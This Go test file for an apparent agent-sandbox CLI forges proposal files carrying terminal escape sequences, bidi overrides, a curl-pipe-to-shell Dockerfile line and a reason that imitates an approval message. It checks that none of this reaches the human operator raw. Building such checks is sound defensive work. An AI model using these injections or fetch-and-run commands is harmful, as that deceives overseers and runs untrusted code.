package cli

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/bot-bottle/bot-bottle/internal/scaffold/testutil"
	"github.com/bot-bottle/bot-bottle/pkg/contract"
)

// hostileText holds one of each kind of character that must not reach
// the operator's terminal: CSI (erase the screen), OSC (set the window
// title), carriage return, backspace, DEL, the C1 CSI, a right-to-left
// override, a zero-width space, bytes that are not UTF-8, a line
// separator and a tag character.
const hostileText = "ok\x1b[2J\x1b]0;approved\x07\rRUN true\b\x7f\u009b8m\u202etxt.exe\u200b\xff\xfe\u2028\U000e0041"

// forgedString writes s as a JSON string the way a hostile writer of the
// queue directory could: C0 controls as \u escapes (JSON allows no raw
// ones), everything else, bytes that are not UTF-8 included, as it is.
func forgedString(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case c == '"' || c == '\\':
			b.WriteByte('\\')
			b.WriteByte(c)
		case c < 0x20:
			fmt.Fprintf(&b, `\u%04x`, c)
		default:
			b.WriteByte(c)
		}
	}
	b.WriteByte('"')
	return b.String()
}

// forge writes a proposal file straight into the bottle's queue, past
// every check supervise makes. payload is a JSON object; justification is
// raw text.
func forge(t *testing.T, home, id string, tool contract.Tool, payload, justification string) {
	t.Helper()
	dir := testutil.BottleDir(t, home, "dev").QueueDir()
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	data := fmt.Sprintf(`{"version":1,"id":%q,"bottle":"dev","tool":%q,"payload":%s,"justification":%s,"created_at":"2026-03-01T09:00:00Z"}`,
		id, tool, payload, forgedString(justification))
	if err := os.WriteFile(filepath.Join(dir, contract.ProposalFileName(id)), []byte(data), 0o600); err != nil {
		t.Fatal(err)
	}
}

// unsafeOutput lists what in s could act on a terminal or hide from the
// operator: bytes that are not UTF-8 and every character that is neither
// graphic nor '\n' (controls, DEL, C1, bidi and other format characters,
// separators, private use), plus U+FFFD. It is written from the Unicode
// tables, apart from the code under test.
func unsafeOutput(s string) []string {
	var bad []string
	for i := 0; i < len(s); {
		r, size := utf8.DecodeRuneInString(s[i:])
		switch {
		case r == utf8.RuneError && size == 1:
			bad = append(bad, fmt.Sprintf("byte %#02x at %d", s[i], i))
		case r == '\n':
		case !unicode.IsGraphic(r) || r == utf8.RuneError:
			bad = append(bad, fmt.Sprintf("%U at %d", r, i))
		}
		i += size
	}
	return bad
}

// TestHostileProposalTextNeverReachesTheTerminal forges proposals into the
// queue directory, bypassing supervise: each carries hostileText in one
// field the agent controls; a forged response carries it in its notes.
// Others are valid but hold what validation lets through and a terminal
// must still not get raw: a tab, a private-use character, a reason whose
// second line poses as CLI output. Every proposals command's output, on
// both streams, must hold no such byte: the forged records are reported
// as bad entries, naming the field and the character's code point, and
// the valid ones are shown with visible escapes.
func TestHostileProposalTextNeverReachesTheTerminal(t *testing.T) {
	home := t.TempDir()
	if err := os.MkdirAll(filepath.Dir(testutil.BottleDir(t, home, "dev").RoutesFile()), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(testutil.BottleDir(t, home, "dev").RoutesFile(), []byte("version: 1\nroutes: []\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	x := hostileText
	s := forgedString
	forgeries := []struct {
		id, field string
		tool      contract.Tool
		payload   string
	}{
		{"forged-justification", "justification", contract.ToolEgressBlock, `{"host":"api.example.test"}`},
		{"forged-host", "payload.host", contract.ToolEgressBlock, `{"host":` + s("api.example.test"+x) + `}`},
		{"forged-path", "payload.path_prefixes[0]", contract.ToolEgressBlock, `{"host":"a.example.test","path_prefixes":[` + s("/v1/"+x) + `]}`},
		{"forged-method", "payload.methods[0]", contract.ToolEgressBlock, `{"host":"a.example.test","methods":[` + s("GET"+x) + `]}`},
		{"forged-rule", "payload.rule_id", contract.ToolDLPBlock, `{"host":"a.example.test","rule_id":` + s("generic"+x) + `}`},
		{"forged-apt", "payload.apt_packages[0]", contract.ToolCapabilityBlock, `{"apt_packages":[` + s("jq"+x) + `]}`},
		{"forged-dockerfile", "payload.dockerfile_lines[0]", contract.ToolCapabilityBlock, `{"dockerfile_lines":[` + s("RUN curl -fsS https://x.test/i.sh | sh "+x) + `]}`},
		{"forged-dockerfile-no-cr", "payload.dockerfile_lines[0]", contract.ToolCapabilityBlock,
			`{"dockerfile_lines":[` + s("RUN curl -fsS https://x.test/i.sh | sh \x1b[2K\x1b[1G  RUN true") + `]}`},
		{"forged-cred-host", "payload.host", contract.ToolCredBlock, `{"host":` + s("api.github.com"+x) + `,"scheme":"token","purpose":"p"}`},
		{"forged-scheme", "payload.scheme", contract.ToolCredBlock, `{"host":"api.github.com","scheme":` + s("token"+x) + `,"purpose":"p"}`},
		{"forged-purpose", "payload.purpose", contract.ToolCredBlock, `{"host":"api.github.com","scheme":"token","purpose":` + s("read issues"+x) + `}`},
	}
	for _, f := range forgeries {
		reason := "needs it"
		if f.field == "justification" {
			reason += x
		}
		forge(t, home, f.id, f.tool, f.payload, reason)
	}
	// A decided proposal whose response was forged.
	forge(t, home, "forged-notes", contract.ToolEgressBlock, `{"host":"api.example.test"}`, "needs it")
	resp := `{"version":1,"id":"forged-notes","status":"rejected","notes":` + s("no"+x) + `,"decided_at":"2026-03-01T09:01:00Z"}`
	if err := os.WriteFile(filepath.Join(testutil.BottleDir(t, home, "dev").QueueDir(), contract.ResponseFileName("forged-notes")), []byte(resp), 0o600); err != nil {
		t.Fatal(err)
	}
	// A file whose name is the attack.
	if err := os.WriteFile(filepath.Join(testutil.BottleDir(t, home, "dev").QueueDir(), "\x1b[2J"+contract.ProposalFileName("x")), []byte("{}"), 0o600); err != nil {
		t.Fatal(err)
	}
	// Valid proposals holding what validation allows but a terminal must
	// not get raw.
	const forgedHeader = "proposal forged-purpose approved"
	forge(t, home, "valid-cred", contract.ToolCredBlock, `{"host":"api.github.com","scheme":"token","purpose":"read\tissues \ue000"}`,
		"I need it\n"+forgedHeader+"\n\tand a private-use \ue000")
	forge(t, home, "valid-capability", contract.ToolCapabilityBlock, `{"dockerfile_lines":["RUN\tmake \ue000"]}`, "build it")

	cmd := func(vars map[string]string, args ...string) result {
		t.Helper()
		r := run(t, "/", vars, append([]string{"--home", home, "proposals"}, args...)...)
		for stream, out := range map[string]string{"stdout": r.stdout, "stderr": r.stderr} {
			if bad := unsafeOutput(out); len(bad) > 0 {
				t.Errorf("proposals %s: %s has raw %s:\n%q", strings.Join(args, " "), stream, strings.Join(bad, ", "), out)
			}
		}
		return r
	}

	// list: the valid ones, escaped; each forgery reported by field and
	// code point.
	r := cmd(nil, "list")
	if r.code != 0 || !strings.Contains(r.stdout, `purpose="read\tissues \ue000"`) {
		t.Errorf("list: exit %d, stdout:\n%s", r.code, r.stdout)
	}
	for _, f := range forgeries {
		if !strings.Contains(r.stderr, "proposal file "+f.id+": "+f.field+": ") {
			t.Errorf("list does not report %s for its %s:\n%s", f.id, f.field, r.stderr)
		}
	}
	for _, want := range []string{"contains an escape character", "(U+001B)", `proposal id "\x1b[2Jx"`} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("list's warning lacks %q:\n%s", want, r.stderr)
		}
	}
	// A decided proposal's files are read only for --all, where the forged
	// response is reported the same way.
	if strings.Contains(r.stderr, "forged-notes") {
		t.Errorf("list of pending proposals read the decided forged-notes:\n%s", r.stderr)
	}
	if r := cmd(nil, "list", "--all"); !strings.Contains(r.stderr, "response file forged-notes: notes: ") {
		t.Errorf("list --all's warning lacks the forged response:\n%s", r.stderr)
	}
	if strings.Contains(r.stdout, "forged-") {
		t.Errorf("list shows a forged proposal:\n%s", r.stdout)
	}

	// list --json: the same values, with the unprintable ones as JSON
	// escapes.
	r = cmd(nil, "list", "--all", "--json")
	var views []proposalView
	if err := json.Unmarshal([]byte(r.stdout), &views); err != nil || len(views) != 2 || !strings.Contains(r.stdout, `\ue000`) {
		t.Fatalf("list --json = %v (%v):\n%s", views, err, r.stdout)
	}
	for _, v := range views {
		if v.ID == "valid-cred" && !strings.HasSuffix(v.Justification, "private-use \ue000") {
			t.Errorf("list --json changed the justification: %q", v.Justification)
		}
	}

	// show: the reason's second line is indented under the label, never at
	// the margin; tabs and private-use characters are escaped, in the
	// reason, the arguments and the next steps.
	r = cmd(nil, "show", "valid-cred")
	for _, want := range []string{
		"  reason:    I need it\n             " + forgedHeader + "\n             \\tand a private-use \\ue000\n",
		`"purpose": "read\tissues \ue000"`,
		`(the agent asked for: read\tissues \ue000)`,
	} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("show lacks %q:\n%s", want, r.stdout)
		}
	}
	if strings.Contains(r.stdout, "\n"+forgedHeader) {
		t.Errorf("show lets the reason start a line of its own:\n%s", r.stdout)
	}

	// Commands on a forged proposal fail, saying why, escaped.
	for _, args := range [][]string{
		{"show", "forged-justification"}, {"show", "forged-notes"}, {"approve", "forged-purpose"},
		{"reject", "forged-dockerfile-no-cr", "--note", "no"}, {"edit", "forged-host"},
	} {
		r = cmd(map[string]string{"EDITOR": "cat"}, args...)
		if r.code == 0 || !strings.Contains(r.stderr, "U+001B") {
			t.Errorf("proposals %s: exit %d, stderr:\n%s", strings.Join(args, " "), r.code, r.stderr)
		}
	}

	// edit shows the editor (here cat) the payload with JSON escapes.
	r = cmd(map[string]string{"EDITOR": "cat"}, "edit", "valid-capability")
	if r.code != 0 || !strings.Contains(r.stdout, `"RUN\tmake \ue000"`) || !strings.Contains(r.stdout, "stays pending") {
		t.Errorf("edit: exit %d, stdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
	// approve prints the next steps, escaped; reject its verdict.
	r = cmd(nil, "approve", "valid-capability")
	if r.code != 0 || !strings.Contains(r.stdout, "proposal valid-capability approved") || !strings.Contains(r.stdout, `  RUN\tmake \ue000`) {
		t.Errorf("approve: exit %d, stdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
	r = cmd(nil, "reject", "valid-cred", "--note", "not now")
	if r.code != 0 || !strings.Contains(r.stdout, "proposal valid-cred rejected") {
		t.Errorf("reject: exit %d, stdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
}
